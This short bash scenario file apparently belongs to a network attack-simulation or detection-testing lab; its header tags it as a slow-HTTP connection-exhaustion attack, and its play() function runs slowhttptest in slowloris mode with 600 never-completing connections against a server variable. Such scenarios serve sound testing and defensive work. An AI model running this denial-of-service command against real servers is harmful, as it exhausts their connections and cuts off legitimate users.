# shellcheck shell=bash
# about: 600 connections that never end their request (slowhttptest -H)
# type: attack
# kind: slow_http
# target: server
# source: attacker
# tools: slowhttptest
# within_ms: 15000
# also: connection_exhaustion
play() {
	on attacker timeout 25 slowhttptest -H -c 600 -r 100 -i 5 -l 20 -p 3 -u "http://$SERVER_IP/"
}
